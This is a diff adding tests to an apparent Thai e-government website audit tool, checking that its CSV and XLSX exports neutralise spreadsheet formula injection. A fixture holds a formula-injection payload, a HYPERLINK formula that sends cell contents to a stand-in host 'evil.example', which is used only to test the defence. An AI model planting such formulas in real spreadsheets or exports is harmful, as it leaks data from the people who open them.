@@ -15,9 +15,10 @@ import urllib.error
 import urllib.parse
 import urllib.request
 
+import openpyxl
 import sqlite_utils
 
-from conftest import SHOTS, egovscan, needs_browser, open_browser
+from conftest import FAST, SHOTS, egovscan, make_site, needs_browser, open_browser
 
 
 def osi(db, run_id, site_id):
@@ -294,4 +295,53 @@ def test_review_server_is_not_frozen_by_a_silent_client_or_a_bad_length(two_nigh
     finally:
         proc.terminate()
         proc.wait(10)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+
+
+def test_review_export_writes_formulas_inert(two_nights):
+    db_path, _ = two_nights
+    egovscan("score", "--db", db_path, "--quiet")
+    egovscan("review", "set", "s1", "media.audio_video", "--state", "present", "--by", "@SUM(1+1)",
+             f"--note={FORMULA}", "--db", db_path)
+    egovscan("review", "set", "s2", "info.news", "--state", "present", "--by", "malee",
+             "--note=-2+3 pages list news", "--evidence", "https://s2.example.go.th/news", "--db", db_path)
+    exported = egovscan("review", "export", "--db", db_path).stdout
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    assert (rows[0]["note"], rows[0]["reviewer"]) == ("'" + FORMULA, "'@SUM(1+1)")
+    assert rows[1]["note"] == "'-2+3 pages list news"
+    assert not [cell for row in csv.reader(io.StringIO(exported)) for cell in row
+                if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_xlsx_export_shows_formula_like_text_as_it_is_and_never_as_a_formula(tmp_path, serve):
+    """XLSX cells beginning with =, +, - or @ are text cells: Excel shows exactly the text (no
+    visible quote) and never evaluates it."""
+    web = tmp_path / "web"
+    make_site(web, "formulas", {"index.html": "<html lang='th'><head><meta charset='utf-8'><title>อบต.</title></head>"
+                                              "<body><a href='/news.html'>-ข่าวประชาสัมพันธ์</a></body></html>",
+                                "news.html": "<p>ข่าว</p>"})
+    (web / "sites.csv").write_text(f'site_id,name,ministry\nformulas,"{FORMULA.replace(chr(34), chr(34) * 2)}",'
+                                   f'- A\n', "utf-8")
+    server = serve(web, third=94)
+    db = tmp_path / "formulas.db"
+    egovscan("run", server.sites_csv, "--db", db, "--out", tmp_path / "report", *FAST[:2], "--quiet")
+    xlsx = tmp_path / "audit.xlsx"
+    egovscan("export", "--db", db, "--format", "xlsx", "--output", xlsx)
+    book = openpyxl.load_workbook(xlsx)
+    sites = book["sites"]
+    header = [c.value for c in sites[1]]
+    name = sites.cell(row=2, column=header.index("name") + 1)
+    ministry = sites.cell(row=2, column=header.index("ministry") + 1)
+    assert (name.value, ministry.value) == (FORMULA, "- A")                    # shown as written
+    guarded = [cell for sheet in book for row in sheet.iter_rows() for cell in row
+               if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))]
+    assert name in guarded and ministry in guarded
+    for cell in guarded:
+        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
+    assert not [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
+                if isinstance(cell.value, str) and cell.value.startswith("'")]
+    rows = list(csv.reader(io.StringIO(egovscan("export", "--db", db, "--format", "csv").stdout)))
+    assert rows[1][rows[0].index("name")] == "'" + FORMULA and rows[1][rows[0].index("ministry")] == "'- A"
 
